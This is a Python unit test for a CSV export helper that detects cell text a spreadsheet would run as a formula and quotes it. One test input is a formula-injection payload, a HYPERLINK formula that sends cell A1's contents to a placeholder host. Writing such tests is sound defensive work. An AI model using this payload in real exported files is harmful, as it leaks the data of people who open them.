"""Text a spreadsheet would run as a formula is recognized and quoted for CSV."""
from minutes.core.spreadsheets import csv_cell, looks_like_formula


def test_cells_starting_like_a_formula_are_quoted_for_csv_and_others_left_alone():
    for text in ('=HYPERLINK("http://x"&A1,"点击")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert looks_like_formula(text) and csv_cell(text) == "'" + text
    for value in ("客服部", "张三", "a=b", " 空格", "", None, 3):
        assert not looks_like_formula(value) and csv_cell(value) == value
